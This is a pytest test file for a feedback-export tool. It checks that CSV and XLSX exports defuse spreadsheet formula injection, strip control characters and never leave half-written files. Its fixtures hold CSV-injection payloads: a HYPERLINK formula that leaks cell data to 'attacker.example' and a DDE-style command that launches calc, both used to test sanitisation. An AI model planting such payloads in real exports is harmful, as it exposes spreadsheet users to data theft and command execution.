"""Exports are safe to open in a spreadsheet and never half-written (issue 11, item 3)."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from feedback.export import ExportError, export, write_frame
from feedback.qa_file import load_pairs
from feedback.records import Feedback, QAPair, Turn
from feedback.sqlite import SQLiteFeedbackStore

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1, "Click me")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
CONTROL = "bell\x07 escape\x1b[31m red\x00 nul\x0b vt"


@pytest.fixture
def store(tmp_path):
    s = SQLiteFeedbackStore(tmp_path / "docent.sqlite3")
    turn = Turn.new(session_id="s1", user="ana", question=FORMULA, answer="25 days.", created_at="2026-11-02T09:00:00Z")
    s.save_turn(turn)
    for i, payload in enumerate([*PAYLOADS, CONTROL]):
        s.save_feedback(
            Feedback.new(
                turn_id=turn.turn_id,
                reviewer=f"r{i}",
                kind="review",
                likert=2,
                comment=payload,
                corrected_answer=payload if i == 0 else None,
            )
        )
    yield s
    s.close()


def test_xlsx_export_holds_no_formula_and_no_control_characters(store, tmp_path):
    import pandas as pd

    out = tmp_path / "feedback.xlsx"
    assert export(store, "feedback", "xlsx", out) == len(PAYLOADS) + 1
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for row in cells for cell in row)  # nothing Excel would evaluate
    comments = [row[header.index("comment")].value for row in cells]
    for payload in PAYLOADS:
        assert "'" + payload.replace("\r", "\n") in comments, payload  # a bare CR would end a CSV row
    assert "bell escape[31m red nul vt" in comments
    frame = pd.read_excel(out)
    assert set(frame["question"]) == {"'" + FORMULA}
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in frame.astype(str).to_numpy().ravel())


def test_csv_export_neutralises_formula_cells(store, tmp_path):
    import pandas as pd

    out = tmp_path / "feedback.csv"
    export(store, "feedback", "csv", out)
    frame = pd.read_csv(out, keep_default_na=False)
    texts = [str(v) for v in frame.to_numpy().ravel() if isinstance(v, str)]
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    assert "'" + FORMULA in set(frame["comment"])
    assert "'\n=1+1" in set(frame["comment"])  # the CR did not split the row
    assert len(frame) == len(PAYLOADS) + 1
    assert "bell escape[31m red nul vt" in set(frame["comment"])


def test_jsonl_keeps_the_text_as_typed(store, tmp_path):
    import pandas as pd

    out = tmp_path / "feedback.jsonl"
    export(store, "feedback", "jsonl", out)
    assert FORMULA in set(pd.read_json(out, lines=True)["comment"])


def test_finetune_csv_reads_back_unchanged_for_training(tmp_path):
    import pandas as pd

    s = SQLiteFeedbackStore(tmp_path / "docent.sqlite3")
    s.add_qa_pairs([QAPair.new("-5 degrees: is the office open?", "=Yes, from 9 to 5.")])
    out = tmp_path / "finetune.csv"
    export(s, "finetune", "csv", out)
    s.close()
    assert pd.read_csv(out)["response"][0] == "'=Yes, from 9 to 5."  # safe in a spreadsheet
    pairs, report = load_pairs(out)
    assert report.ok
    assert (pairs[0].instruction, pairs[0].response) == ("-5 degrees: is the office open?", "=Yes, from 9 to 5.")


def test_a_failed_write_leaves_no_partial_file_and_keeps_the_old_one(tmp_path, monkeypatch):
    import pandas as pd

    out = tmp_path / "feedback.xlsx"
    out.write_bytes(b"the previous export")

    def broken(self, *args, **kwargs):
        with open(args[0], "wb") as fh:
            fh.write(b"PK\x03\x04 half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_excel", broken)
    with pytest.raises(ExportError) as err:
        write_frame(pd.DataFrame({"comment": ["x"]}), "xlsx", out)
    assert str(out) in str(err.value) and "No space left on device" in str(err.value)
    assert out.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["feedback.xlsx"]


def test_cli_reports_a_failed_export_without_traceback(tmp_path, monkeypatch, capsys):
    from cli.main import main

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DOCENT_DATA_DIR", str(tmp_path / "data"))
    (tmp_path / "taken").write_text("a file where a folder should be")
    with pytest.raises(SystemExit) as code:
        main(["export", "--what", "turns", "--format", "xlsx", "--out", str(tmp_path / "taken" / "t.xlsx")])
    err = capsys.readouterr().err
    assert code.value.code == 1
    assert "Traceback" not in err and "taken" in err and "choose another --out" in err
